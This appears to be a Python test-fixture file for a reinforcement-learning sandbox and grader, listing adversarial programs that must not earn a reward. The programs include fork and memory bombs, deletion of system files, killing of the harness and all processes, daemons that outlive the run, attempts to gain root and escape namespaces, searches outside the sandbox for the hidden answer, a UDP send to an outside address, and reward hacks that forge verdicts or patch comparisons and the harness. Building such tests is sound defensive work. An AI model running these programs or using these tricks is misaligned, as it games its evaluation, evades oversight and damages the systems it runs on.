"""Programs that attack the machine or the grader. None may earn a reward.

The problem behind them: read a word, answer with a word that only the grader knows. A
program that is paid has found the answer where it must not be, or forged a verdict. The
answer lies about on the machine, for those that look for it outside the sandbox.
"""

# Prints the answer and ends at once, if ``text`` gives it away.
TELL = """
def tell(text):
    import os
    for start in range(len(text)):
        start = text.find("answer-", start)
        if start < 0:
            return
        if text[start + 7 : start + 23].isalnum():
            os.write(1, text[start : start + 23].encode())
            os._exit(0)
"""

STDIN_PROGRAMS = {
    "fork_bomb": """
import os
while True:
    os.fork()
""",
    "fork_bomb_that_ignores_errors_and_signals": """
import os, signal
for number in range(1, 32):
    if number not in (9, 19):
        signal.signal(number, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "thread_bomb": """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
""",
    "memory_bomb": """
blocks = []
while True:
    blocks.append(bytearray(100 << 20))
""",
    "memory_bomb_in_children": """
import os
for _ in range(8):
    os.fork()
blocks = []
while True:
    try:
        blocks.append(b"x" * (50 << 20))
    except MemoryError:
        pass
""",
    "memory_in_shared_segments": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(100):
    segment = libc.shmget(0, 200 << 20, 0o1600)
    assert segment >= 0, ctypes.get_errno()
    ctypes.memset(libc.shmat(segment, None, 0), 1, 200 << 20)
""",
    "memory_in_anonymous_files": """
import os
files = []
while True:
    files.append(os.memfd_create("x"))
    os.write(files[-1], bytes(4 << 20))
""",
    "disk_fill": """
file = open("/tmp/fill", "wb")
while True:
    file.write(bytes(1 << 20))
""",
    "disk_fill_with_many_files": """
number = 0
while True:
    number += 1
    open(f"/tmp/{number}", "w").write("x" * 4096)
""",
    "endless_output": """
while True:
    print("x" * 1000)
""",
    "endless_output_on_the_error_stream": """
import os
while True:
    os.write(2, b"x" * 65536)
""",
    "endless_loop": """
while True:
    pass
""",
    "endless_loop_that_refuses_to_end": """
import signal
for number in (signal.SIGXCPU, signal.SIGTERM, signal.SIGALRM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "endless_sleep": """
import time
while True:
    time.sleep(1000)
""",
    "endless_computation_in_c": """
int("9") ** 9 ** 9
""",
    "endless_regular_expression": """
import re
re.match(r"(a+)+$", "a" * 64 + "b")
""",
    "compile_bomb": "x = " + "(" * 100_000 + ")" * 100_000,
    "compile_bomb_of_constants": "x = " + "-" * 500_000 + "1",
    "stack_overflow": """
import sys
sys.setrecursionlimit(10**9)
def descend():
    return [descend() for _ in range(1)]
descend()
""",
    "segmentation_fault": """
import ctypes
ctypes.string_at(1)
""",
    "limits_raised": """
import resource
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE"):
    resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
blocks = [bytes(100 << 20) for _ in range(1000)]
""",
    "network": """
import socket
print(socket.create_connection(("1.1.1.1", 53), timeout=3).recv(10))
""",
    "network_datagram_and_listener": """
import socket
listener = socket.socket()
listener.bind(("0.0.0.0", 8080))
listener.listen()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secrets", ("8.8.8.8", 53))
print(listener.accept())
""",
    "answer_from_a_host_socket": TELL
    + """
import socket
client = socket.socket(socket.AF_UNIX)
client.connect("\\0prorl-answers")
tell(client.recv(1000).decode())
""",
    "answer_from_any_file": TELL
    + """
import os
for start in ("/var/tmp", "/tmp", "/home", "/root", "/"):
    for folder, _, names in os.walk(start):
        for name in names:
            try:
                tell(open(os.path.join(folder, name), errors="replace").read(1 << 20))
            except OSError:
                pass
""",
    "answer_from_symbolic_links": TELL
    + """
import glob, os
for number, target in enumerate(("/", "..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd")):
    link = f"/tmp/prorl-link-{os.getpid()}-{number}"
    os.symlink(target, link)
    for path in glob.glob(link + "/var/tmp/prorl-answers*/*"):
        text = open(path).read()
        os.unlink(link)
        tell(text)
    os.unlink(link)
""",
    "answer_from_proc": TELL
    + """
import glob
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/fd/*"):
    for path in glob.glob(pattern):
        if path.endswith(("/0", "/1", "/2")):
            continue
        try:
            tell(open(path, errors="replace").read(1 << 20))
        except OSError:
            pass
""",
    "answer_from_other_processes": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 500):
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("attached", pid)
buffer = ctypes.create_string_buffer(1 << 16)
print(libc.process_vm_readv(os.getppid(), buffer, 1, buffer, 1, 0))
""",
    "answer_from_the_heap": TELL
    + """
import gc
for item in gc.get_objects():
    if isinstance(item, (dict, list, tuple)) and item is not globals():
        tell(repr(item)[:100000].replace('"answer-"', "").replace("'answer-'", ""))
""",
    "answer_from_frames": TELL
    + """
import sys
frame = sys._getframe().f_back
while frame:
    for value in (*frame.f_globals.values(), *frame.f_locals.values()):
        tell(repr(value))
        tell(repr(getattr(value, "__dict__", "")))
    frame = frame.f_back
""",
    "every_answer_at_once": """
print("\\n".join(f"answer-{number}" for number in range(10000)))
""",
    "verdict_by_exit": """
import os
os._exit(0)
""",
    "verdict_by_exit_status": """
import sys
sys.exit(0)
""",
    "verdict_by_printing": """
print("ok passed ready PASSED All tests passed 1.0 reward=1")
""",
    "verdict_by_inherited_descriptors": """
import os
for descriptor in range(1024):
    for text in (b"x ok 0 3\\nyes", b"hello\\n", b"passed\\n", b"[1.0]"):
        try:
            os.write(descriptor, text)
        except OSError:
            pass
os._exit(0)
""",
    "verdict_by_the_harness_itself": """
import gc, os
for item in gc.get_objects():
    if type(item).__name__ == "Channel":
        item.nonce, item.replies
        for descriptor in range(3, 64):
            item.replies = descriptor
            for status in ("ok", "passed"):
                try:
                    item.reply(status, b"true", 0.0)
                except OSError:
                    pass
os._exit(0)
""",
    "verdict_by_a_stolen_descriptor": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(os.getppid())
for descriptor in range(64):
    stolen = libc.syscall(438, pidfd, descriptor, 0)
    if stolen >= 0:
        os.write(stolen, b"stolen")
        print("stolen", descriptor)
""",
    "harness_killed": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
""",
    "harness_stopped": """
import os, signal
os.kill(os.getppid(), signal.SIGSTOP)
""",
    "everything_killed": """
import os, signal
os.kill(-1, signal.SIGKILL)
os.kill(1, signal.SIGKILL)
""",
    "everything_stopped": """
import os, signal
os.kill(-1, signal.SIGSTOP)
""",
    "daemon_that_outlives_the_run": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in range(3):
            os.close(descriptor)
        while True:
            time.sleep(0.1)
    os._exit(0)
""",
    "daemon_that_writes_later": """
import os, signal, time
signal.signal(signal.SIGHUP, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    time.sleep(1)
    open("/tmp/prorl-was-here", "w").write("x")
    open("/var/tmp/prorl-was-here", "w").write("x")
    os._exit(0)
""",
    "zombies": """
import os
for _ in range(1000):
    if os.fork() == 0:
        os._exit(0)
""",
    "system_files_changed": """
import os, shutil
for folder in ("/usr/bin", "/etc", "/dev", "/"):
    try:
        open(folder + "/prorl-was-here", "w").write("x")
    except OSError:
        pass
shutil.rmtree("/usr/share", ignore_errors=True)
os.remove("/usr/bin/env")
""",
    "mounts_and_namespaces": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    assert libc.unshare(flags) != 0, "unshared"
assert libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0) != 0, "mounted"
assert libc.chroot(b"/tmp") != 0, "chroot"
raise SystemExit(1)
""",
    "root_by_setuid_programs": """
import os, subprocess
for command in (["su", "-c", "id"], ["mount"], ["passwd", "-d", "root"], ["sudo", "id"]):
    try:
        print(subprocess.run(command, capture_output=True, input=b"").stdout)
    except OSError:
        pass
os.setuid(0)
""",
    "descriptors_exhausted": """
import os
while True:
    os.dup(0)
""",
    "clock_and_host_name_changed": """
import socket, time
time.clock_settime(time.CLOCK_REALTIME, 0)
socket.sethostname("prorl-was-here")
""",
    "source_with_nul_and_surrogates": "print('\\udc80')\n\0",
}

FUNCTION_PROGRAMS = {
    "equality_override": """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
def answer(word): return Anything()
""",
    "string_subclass": """
class Anything(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def answer(word): return Anything("x")
""",
    "patched_comparison_and_json": """
import builtins, json, operator, sys
operator.eq = lambda a, b: True
builtins.all = builtins.any = lambda items: True
json.loads = json.dumps = lambda *items, **named: "answer"
builtins.type = lambda value: str
builtins.len = lambda value: 1
def answer(word): return {}
""",
    "patched_harness": """
import sys
frame = sys._getframe()
while frame:
    if "encode" in frame.f_globals:
        frame.f_globals["encode"] = lambda value: "true"
        frame.f_globals["write_all"] = lambda *items: None
    frame = frame.f_back
def answer(word): return True
""",
    "value_written_by_hand": """
import os, sys
def answer(word):
    frame = sys._getframe()
    while frame:
        mark = frame.f_locals.get("mark", "")
        if mark:
            os.write(3, (mark + '"answer"\\n').encode() * 2)
        frame = frame.f_back
    os._exit(0)
""",
    "value_of_a_forked_twin": """
import os
def answer(word):
    os.fork()
    return "answer"
""",
    "giant_value": """
def answer(word): return "x" * 300_000_000
""",
    "endless_value": """
def answer(word):
    while True:
        yield word
""",
    "deeply_nested_value": """
def answer(word):
    value = word
    for _ in range(100_000):
        value = [value]
    return value
""",
    "self_containing_value": """
def answer(word):
    value = []
    value.append(value)
    return value
""",
    "test_doubles": """
class Solution:
    def __getattr__(self, name): return lambda *items: True
""",
}

FINDABLE_WITHOUT_A_SANDBOX = (
    "answer_from_a_host_socket",
    "answer_from_any_file",
    "answer_from_proc",
    "answer_from_symbolic_links",
)
